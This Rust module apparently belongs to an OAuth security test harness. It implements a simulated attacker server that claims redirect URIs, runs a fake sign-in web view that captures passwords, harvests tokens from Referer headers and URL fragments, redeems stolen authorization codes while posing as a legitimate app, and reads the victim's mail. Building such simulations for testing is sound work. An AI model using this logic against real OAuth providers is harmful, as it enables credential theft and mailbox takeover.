//! The malicious mail robot. Everything it does needs only what every attacker has: public identifiers, a site, an account
//! of his own, and a program on the victim's machine.
//!
//! | address | what it is for |
//! | --- | --- |
//! | `GET /callback` | claims the loopback redirect of another app: keeps what arrives |
//! | `GET`, `POST /embedded` | a "web view": shows the sign-in inside the app, reads the password, presses "allow" |
//! | `GET /banner.svg` | a picture for other people's pages: keeps the `Referer` |
//! | `GET /offer` | a page that sends its visitor to a forged callback |
//! | `GET /catch`, `POST /collect` | a page whose script sends home the fragment of its address |

pub mod counterfeit;
mod site;
mod web_view;

use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use anyhow::{Context, Result};
use bytes::Bytes;
use client::Transport;
use http::{Request, StatusCode, header};
use serde_json::Value;
use url::Url;

use crate::{Surroundings, Wire, careless};
pub use site::router;

/// What the malicious robot needs to know.
#[derive(Clone, Debug)]
pub struct MaliciousConfig {
    /// Its own origin, without a trailing slash.
    pub origin: String,
    /// The issuer under attack: the endpoints are this and `/authorize`, `/token`.
    pub issuer: String,
    /// The identifier of the app that it passes itself off as.
    pub client_id: String,
    /// The redirect URI of that app, which it claims.
    pub redirect_uri: String,
    /// The mailbox's origin.
    pub mailbox_url: String,
    /// Where [`site`'s](router) `/offer` sends its visitor: a forged callback. Set later by [`Malicious::bait`].
    pub offer: String,
    /// Time and randomness.
    pub surroundings: Surroundings,
}

/// One thing that fell into its hands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Catch {
    /// `code`, `access_token`, `password` and so on.
    pub name: String,
    /// The value itself.
    pub value: String,
    /// How it came.
    pub by: &'static str,
}

/// The robot with what it has caught so far.
pub struct Malicious {
    config: MaliciousConfig,
    wire: Wire,
    catches: Mutex<Vec<Catch>>,
    offer: Mutex<String>,
}

/// What the token endpoint said to a thief.
pub enum Redeemed {
    /// The access token.
    Token(String),
    /// Why not.
    Refused(String),
}

impl Malicious {
    /// A new one; its own requests go over `wire`.
    pub fn new(config: MaliciousConfig, wire: Wire) -> Arc<Malicious> {
        let offer = Mutex::new(config.offer.clone());
        Arc::new(Malicious { config, wire, catches: Mutex::default(), offer })
    }

    /// Its own origin.
    pub fn origin(&self) -> &str {
        &self.config.origin
    }

    /// The last catch of that name.
    pub fn caught(&self, name: &str) -> Option<Catch> {
        self.catches().iter().rev().find(|catch| catch.name == name).cloned()
    }

    /// Where `/offer` leads from now on.
    pub fn bait(&self, url: &str) {
        *self.offer.lock().unwrap_or_else(PoisonError::into_inner) = url.to_owned();
    }

    /// Keeps the interesting parameters.
    fn keep(&self, pairs: impl IntoIterator<Item = (String, String)>, by: &'static str) {
        const WANTED: [&str; 9] =
            ["access_token", "code", "code_verifier", "client_secret", "error", "password", "state", "token", "username"];
        let wanted = pairs.into_iter().filter(|(name, _)| WANTED.contains(&name.as_str()));
        self.catches().extend(wanted.map(|(name, value)| Catch { name, value, by }));
    }

    /// Keeps what an address gives away, in its query and in its fragment.
    fn keep_address(&self, address: &str, by: &'static str) {
        let Ok(url) = Url::parse(address) else { return };
        let fragment = url.fragment().unwrap_or_default().to_owned();
        self.keep(url.query_pairs().into_owned().collect::<Vec<_>>(), by);
        self.keep(form_urlencoded::parse(fragment.as_bytes()).into_owned().collect::<Vec<_>>(), by);
    }

    fn catches(&self) -> MutexGuard<'_, Vec<Catch>> {
        // Catches go in whole.
        self.catches.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Redeems a code in the name of the app that it passes itself off as.
    pub async fn redeem(&self, code: &str, redirect_uri: &str, verifier: Option<&str>) -> Result<Redeemed> {
        let mut pairs = vec![
            ("grant_type", "authorization_code"),
            ("code", code),
            ("redirect_uri", redirect_uri),
            ("client_id", &self.config.client_id),
        ];
        pairs.extend(verifier.map(|verifier| ("code_verifier", verifier)));
        let form = form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish();
        let request = Request::post(format!("{}/token", self.config.issuer))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Bytes::from(form))?;
        let answer = self.wire.send(request).await?;
        let read: Value = serde_json::from_slice(answer.body()).context("the token endpoint answered no JSON")?;
        let said = |name: &str| read[name].as_str().unwrap_or_default();
        Ok(match read["access_token"].as_str() {
            Some(token) => {
                self.keep([("access_token".to_owned(), token.to_owned())], "the token endpoint");
                Redeemed::Token(token.to_owned())
            }
            None => Redeemed::Refused(format!("{}: {}", said("error"), said("error_description"))),
        })
    }

    /// The subjects of the mails that a token opens. None where the mailbox refuses it.
    pub async fn read_mails(&self, token: &str) -> Result<Option<Vec<String>>> {
        let request = Request::get(format!("{}/messages", self.config.mailbox_url))
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .body(Bytes::new())?;
        let answer = self.wire.send(request).await?;
        Ok((answer.status() == StatusCode::OK).then(|| careless::subjects(answer.body())))
    }
}
